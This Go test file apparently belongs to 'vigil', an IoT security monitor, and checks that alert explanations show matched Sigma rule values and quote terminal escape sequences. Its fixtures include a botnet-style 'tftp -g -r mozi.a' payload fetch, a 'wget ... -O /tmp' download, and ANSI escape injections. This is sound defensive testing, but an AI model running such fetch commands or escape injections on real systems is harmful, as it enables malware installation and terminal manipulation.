package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/client"
	"github.com/vigil-iot/vigil/node"
	"github.com/vigil-iot/vigil/store"
)

// TestCtlAlertExplains: against a running server, `vigil ctl alerts ID`
// shows why a Sigma alert fired (the rule's condition and the matched
// field and value, a terminal escape in the value quoted) and -o json
// holds the whole explanation.
func TestCtlAlertExplains(t *testing.T) {
	cfg := node.DefaultConfig()
	cfg.DataDir, cfg.Listen, cfg.LogLevel = t.TempDir(), "127.0.0.1:0", "warn"
	cfg.SigmaDirs = []string{t.TempDir()}
	rule := "title: TFTP download\nid: 55555555-5555-4555-8555-555555555555\ndescription: A device fetched a file over TFTP.\n" +
		"logsource: {product: linux, category: process_creation}\n" +
		"detection:\n  sel: {CommandLine|contains: tftp}\n  condition: sel\nlevel: high\n"
	if err := os.WriteFile(filepath.Join(cfg.SigmaDirs[0], "tftp.yml"), []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	a := runTestApp(t, cfg)
	conn := []string{"--server", a.URL(), "--token", a.AdminToken(), "--ca", filepath.Join(a.Config().DataDir, "pki", "ca.crt")}
	c, err := client.New(a.URL(), a.AdminToken(), client.TLSConfig(a.CAPool()))
	if err != nil {
		t.Fatal(err)
	}
	ev, _ := json.Marshal(map[string]any{
		"time": time.Now().UTC().Format(time.RFC3339Nano), "device_id": "explain-cam-1", "kind": "process",
		"fields": map[string]any{"process.command_line": "tftp -g -r mozi.a 203.0.113.9\x1b[2J", "user.name": "root"},
	})
	if res, err := c.PostEvents(t.Context(), append(ev, '\n')); err != nil || res.Accepted != 1 {
		t.Fatalf("post: %+v %v", res, err)
	}
	var id string
	deadline := time.Now().Add(20 * time.Second)
	for id == "" {
		as, _, err := c.ListAlerts(t.Context(), store.AlertFilter{RuleID: "55555555-5555-4555-8555-555555555555"})
		if err != nil {
			t.Fatal(err)
		}
		if len(as) > 0 {
			id = as[0].ID
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no alert from the TFTP rule")
		}
		time.Sleep(100 * time.Millisecond)
	}
	out, code := run(t, append([]string{"ctl", "alerts", id}, conn...)...)
	if code != 0 {
		t.Fatalf("ctl alerts %s: exit %d:\n%s", id, code, out)
	}
	for _, want := range []string{
		"why.rule", "TFTP download (55555555-5555-4555-8555-555555555555), level high",
		"why.condition", "sel\n",
		`why.matched`, `sel: CommandLine="tftp -g -r mozi.a 203.0.113.9\x1b[2J" (contains: tftp)`,
		"why.evidence", `process.command_line="tftp -g -r mozi.a 203.0.113.9\x1b[2J"`, `user.name="root"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("ctl alerts %s lacks %q:\n%s", id, want, out)
		}
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("ctl alerts %s printed a raw escape character:\n%q", id, out)
	}
	t.Logf("ctl alerts %s:\n%s", id, out)
	out, code = run(t, append([]string{"ctl", "alerts", id, "-o", "json"}, conn...)...)
	var got vigil.Alert
	if code != 0 || json.Unmarshal([]byte(out), &got) != nil || got.Explanation == nil {
		t.Fatalf("ctl alerts %s -o json: exit %d:\n%s", id, code, out)
	}
	x := got.Explanation
	if x.Rule == nil || x.Rule.Description != "A device fetched a file over TFTP." || len(x.Matches) != 1 ||
		x.Matches[0] != (vigil.Match{Selection: "sel", Field: "CommandLine", Value: "tftp -g -r mozi.a 203.0.113.9\x1b[2J", Pattern: "contains: tftp"}) ||
		len(x.Evidence) != 1 || x.Evidence[0].EventID == "" {
		t.Errorf("explanation in JSON = %+v", x)
	}
}

// TestRulesTestShowsValues: `vigil rules test` prints the values that
// matched next to the selections.
func TestRulesTestShowsValues(t *testing.T) {
	dir := t.TempDir()
	rule := "title: Good\nid: 44444444-4444-4444-8444-444444444444\nlogsource: {product: linux, category: process_creation}\n" +
		"detection:\n  sel: {CommandLine|contains|all: [wget, /tmp]}\n  condition: sel\nlevel: high\n"
	os.WriteFile(filepath.Join(dir, "good.yml"), []byte(rule), 0o644)
	events := filepath.Join(dir, "events.jsonl")
	os.WriteFile(events, []byte(`{"CommandLine":"wget http://x -O /tmp/a"}`+"\n"), 0o644)
	out, code := run(t, "rules", "test", "--rule", filepath.Join(dir, "good.yml"), "--events", events)
	want := `line 1: MATCH: Good (matched: sel [CommandLine="wget http://x -O /tmp/a" (contains: wget); CommandLine="wget http://x -O /tmp/a" (contains: /tmp)])`
	if code != 0 || !strings.Contains(out, want) {
		t.Fatalf("rules test: exit %d:\n%s\nwant a line %s", code, out, want)
	}
}

// TestPrintAlertDetailWhy: the why lines of correlation, threshold and
// intel explanations, and of a learned behaviour alert's fields; every
// value from an event quoted.
func TestPrintAlertDetailWhy(t *testing.T) {
	var b strings.Builder
	a := vigil.Alert{ID: "a1", Title: "Brute force", RuleID: "r1", Explanation: &vigil.Explanation{
		Rule:      &vigil.ExplainedRule{Title: "Brute force", ID: "r1", Level: "high", Condition: "event_count gte 3 within 1m0s"},
		Group:     map[string]string{"source.ip": "192.0.2.7\n"},
		Window:    "1m0s",
		Threshold: &vigil.ExplainedThreshold{Series: "event_count", Op: "gte", Threshold: "3", Observed: "3", Count: 3},
		Indicator: &vigil.ExplainedIndicator{Type: "ip", Value: "198.51.100.7", Feed: "cti", Confidence: 80, Field: "destination.ip", Matched: "198.51.100.7"},
	}}
	if err := printAlertDetail(&b, a); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"why.rule\tBrute force (r1), level high\n", "why.condition\tevent_count gte 3 within 1m0s\n",
		"why.group\tsource.ip=\"192.0.2.7\\n\"\n", "why.window\t1m0s\n", "why.threshold\tevent_count gte 3, observed 3 (3 events)\n",
		"why.indicator\tip 198.51.100.7, feed cti, confidence 80, matched destination.ip=\"198.51.100.7\"\n",
	} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("no %q in:\n%s", want, b.String())
		}
	}
	b.Reset()
	learned := vigil.Alert{ID: "a2", Title: "New destination", Fields: map[string]any{"baseline.feature": "dst", "baseline.observed": "203.0.113.5\x1b]0;x\x07"}}
	if err := printAlertDetail(&b, learned); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "why.feature\tdst\n") || !strings.Contains(b.String(), `why.observed	"203.0.113.5\x1b]0;x\a"`) {
		t.Errorf("learned alert:\n%s", b.String())
	}
	if strings.Contains(b.String(), "\x1b") {
		t.Errorf("raw escape printed:\n%q", b.String())
	}
}
